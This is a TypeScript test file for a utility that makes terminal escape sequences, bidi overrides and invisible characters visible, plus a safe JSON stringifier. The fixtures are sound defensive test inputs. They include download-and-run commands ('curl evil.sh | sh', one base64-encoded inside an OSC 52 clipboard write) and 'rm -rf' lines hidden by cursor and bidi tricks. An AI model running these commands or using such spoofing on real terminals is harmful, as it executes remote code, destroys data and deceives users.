import { describe, expect, it } from 'vitest';
import { controlSegments, describeControl, escapeControls, hasControls, safeJsonStringify } from './escape-controls';

/** Anything a terminal or a browser would act on rather than show. */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]|[\u{e0000}-\u{e007f}]/u;

describe('escapeControls: hostile strings are shown, not obeyed', () => {
  it('OSC 52 (write the clipboard) becomes visible text', () => {
    const osc52 = 'uptime\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07';
    expect(escapeControls(osc52)).toBe('uptime\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07');
    expect(escapeControls(osc52)).not.toMatch(RAW);
  });

  it('CSI cursor-up and erase-line cannot hide the line before', () => {
    const text = 'rm -rf /srv/data\n\x1b[1A\x1b[2Kls -l';
    expect(escapeControls(text)).toBe('rm -rf /srv/data\\n\\x1b[1A\\x1b[2Kls -l');
    // Host output keeps its lines, never the escape.
    expect(escapeControls(text, { multiline: true })).toBe('rm -rf /srv/data\n\\x1b[1A\\x1b[2Kls -l');
  });

  it('a carriage return cannot overwrite the command with a harmless one', () => {
    expect(escapeControls('curl evil.sh | sh\recho hello       ')).toBe('curl evil.sh | sh\\recho hello       ');
    expect(escapeControls('line\r\n', { multiline: true })).toBe('line\\r\n');
  });

  it('8-bit C1 controls (CSI U+009B, OSC U+009D) and DEL are escaped', () => {
    expect(escapeControls('a\x9b2Jb\x9d52;c;x\x9c\x7f')).toBe('a\\x9b2Jb\\x9d52;c;x\\x9c\\x7f');
  });

  it('bidi overrides, isolates and zero-width characters are visible', () => {
    // "ls #<RLO>fr- mr" reads as "ls #rm -rf" in a browser.
    expect(escapeControls('ls #\u202efr- mr')).toBe('ls #\\u202efr- mr');
    expect(escapeControls('\u2066a\u2069\u200b\u200d\ufeff\u2028\u2029')).toBe('\\u2066a\\u2069\\u200b\\u200d\\ufeff\\u2028\\u2029');
    expect(escapeControls('say \u{e0068}\u{e0069}')).toBe('say \\u{e0068}\\u{e0069}');
  });

  it('newlines and tabs: escaped on one line (commands), kept in output', () => {
    expect(escapeControls('a\tb\nc')).toBe('a\\tb\\nc');
    expect(escapeControls('a\tb\nc', { multiline: true })).toBe('a\tb\nc');
    expect(hasControls('a\tb\nc')).toBe(true);
    expect(hasControls('a\tb\nc', { multiline: true })).toBe(false);
  });

  it('leaves ordinary text, including non-Latin scripts and emoji, alone', () => {
    for (const text of ['systemctl restart nginx', "grep -E 'a\\|b' /var/log/syslog", 'df -h | sort -k5 -r', 'ünïcödé 日本語 עברית العربية 🚀', '']) {
      expect(escapeControls(text)).toBe(text);
      expect(hasControls(text)).toBe(false);
    }
  });

  it('segments mark each escaped character with its name', () => {
    expect(controlSegments('a\x1b[2Kb\u202e')).toEqual([
      { kind: 'text', text: 'a' },
      { kind: 'control', text: '\\x1b', codePoint: 0x1b, name: describeControl(0x1b) },
      { kind: 'text', text: '[2Kb' },
      { kind: 'control', text: '\\u202e', codePoint: 0x202e, name: describeControl(0x202e) },
    ]);
    expect(controlSegments('x\ny', { multiline: true })).toEqual([{ kind: 'text', text: 'x\ny' }]);
    expect(describeControl(0x1b)).toMatch(/ESC/);
    expect(describeControl(0x202e)).toMatch(/right-to-left override/);
  });
});

describe('safeJsonStringify', () => {
  it('escapes what JSON.stringify leaves raw, and parses back to the same value', () => {
    const value = { stdout: '\x1b]52;c;aGk=\x07 \x9b2J \x7f \u202e \u2028 \u200b \u{e0041}', n: 1 };
    expect(JSON.stringify(value)).toMatch(/[\x7f\x9b\u202e\u2028\u200b]/);
    const json = safeJsonStringify(value);
    expect(json).not.toMatch(RAW);
    expect(json).toContain('\\u001b]52;c;aGk=\\u0007');
    expect(json).toContain('\\u009b2J');
    expect(json).toContain('\\udb40\\udc41');
    expect(JSON.parse(json)).toEqual(value);
  });
});
